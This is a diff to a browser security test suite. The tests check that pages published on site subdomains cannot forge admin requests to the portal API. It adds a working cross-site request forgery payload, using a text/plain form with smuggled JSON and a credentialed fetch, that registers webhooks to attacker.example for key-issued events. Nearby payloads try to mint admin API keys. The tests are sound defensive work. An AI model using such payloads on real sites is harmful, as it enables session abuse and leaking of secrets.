@@ -36,6 +36,17 @@ Promise.all([
 const FORM_ATTACK = (apex: string) =>
   `<form id="f" method="POST" action="${apex}/api/keys" enctype="text/plain"><input name='{"name":"pwned-form","admin":true,"x":"' value='"}'></form><script>document.getElementById('f').submit()</script>`;
 
+/** A page that subscribes the attacker's URL to everything, as the signed-in admin: with a fetch and with a form. */
+const WEBHOOK_ATTACK = (apex: string) => `
+<form id="f" method="POST" action="${apex}/api/webhooks" enctype="text/plain" target="sink"><input name='{"url":"https://attacker.example/hook","events":["key.issued"],"x":"' value='"}'></form>
+<iframe name="sink"></iframe>
+<script>
+fetch(${JSON.stringify(apex)} + '/api/webhooks', { method: 'POST', credentials: 'include', mode: 'no-cors',
+  body: JSON.stringify({ url: 'https://attacker.example/all', events: ['site.published', 'key.issued', 'connection.granted'] }) })
+  .catch(() => undefined)
+  .then(() => { document.getElementById('f').submit(); document.title = 'hook sent'; });
+</script>`;
+
 const SVG_FAVICON = (apex: string) =>
   `<svg xmlns="http://www.w3.org/2000/svg"><script>fetch('${apex}/api/keys',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({name:'pwned-svg',admin:true})}).then(()=>{document.title='svg ran'})</script><circle r="4"/></svg>`;
 
@@ -70,6 +81,7 @@ describe.skipIf(!chromiumAvailable())('published pages cannot act with the signe
     expect((await api('/api/sites/docs/trashed', { method: 'DELETE' })).status).toBe(204);
     await publishOk(svc.url, attacker, { group: 'evil', slug: 'page', title: 'Free stuff', files: { 'index.html': html('Free stuff', '', `<script>const APEX = ${JSON.stringify(apex)};${ATTACK_SCRIPT}</script>`) } });
     await publishOk(svc.url, attacker, { group: 'evil', slug: 'form', title: 'Form', files: { 'index.html': FORM_ATTACK(apex) } });
+    await publishOk(svc.url, attacker, { group: 'evil', slug: 'hook', title: 'Hook', files: { 'index.html': WEBHOOK_ATTACK(apex) } });
     await publishOk(svc.url, attacker, { group: 'evil', slug: 'frame', title: 'Frame', files: { 'index.html': `<iframe id="portal" src="${apex}/" width="800" height="600"></iframe>` } });
     await publishOk(svc.url, attacker, {
       group: 'evil',
@@ -108,6 +120,22 @@ describe.skipIf(!chromiumAvailable())('published pages cannot act with the signe
     await page.goto(`${siteOrigin('form.evil')}/`);
     expect((await answer).status()).toBe(403);
     expect(await keyNames()).not.toContain('pwned-form');
+  });
+
+  test('a page on a site host cannot create a webhook as the signed-in admin', async () => {
+    const answers: number[] = [];
+    page.on('response', (r) => {
+      if (r.url() === `${apex}/api/webhooks`) answers.push(r.status());
+    });
+    await page.goto(`${siteOrigin('hook.evil')}/`);
+    await page.waitForFunction(() => document.title === 'hook sent');
+    await eventually(() => answers.length).toBe(2);
+    expect(answers).toEqual([403, 403]);
+    const hooks = (await (await api('/api/webhooks')).json()) as { webhooks: unknown[] };
+    expect(hooks.webhooks).toEqual([]);
+    // The same request from the apex itself (the portal) is what works: the refusal is the guard, not the body.
+    const own = await api('/api/webhooks', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ url: 'https://attacker.example/all', events: ['key.issued'] }) });
+    expect(own.status).not.toBe(403);
   });
 
   test('the portal refuses to be framed by a site', async () => {
